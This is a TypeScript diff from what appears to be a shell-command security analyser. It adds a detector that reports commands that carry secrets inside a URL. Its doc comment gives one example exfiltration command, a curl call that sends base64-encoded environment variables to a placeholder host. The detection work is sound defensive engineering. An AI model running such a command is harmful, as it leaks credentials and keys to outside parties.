@@ -49,6 +49,15 @@ export function noteUpload(call: Call, url: string, sent: readonly Value[], isFi
   });
 }
 
+/** `curl "http://host/?e=$(env | base64)"`: passwords and keys as a part of what is asked for. */
+export function noteCarriedInUrl({ frame, name, span }: Call, operands: readonly Value[]): void {
+  const carried = operands.find(({ taint }) => taint?.kind === "facts" || taint?.kind === "file");
+  if (carried === undefined || sentData(carried.taint) !== "secrets") return;
+  const url = carried.text;
+  const says = `${name} sends secrets as a part of the address ${url.slice(0, 120)}.`;
+  frame.session.say(frame, "exfiltrates", span, says, "medium", { ...detailOf(url, name), sent: "secrets" });
+}
+
 /** What a stream without a name holds: lines of files, or what was captured on the wire. */
 function streamed(taint: Taint | null | undefined): string | null {
   if (taint?.kind === "file" && taint.path === undefined) return "the content of files of this host";
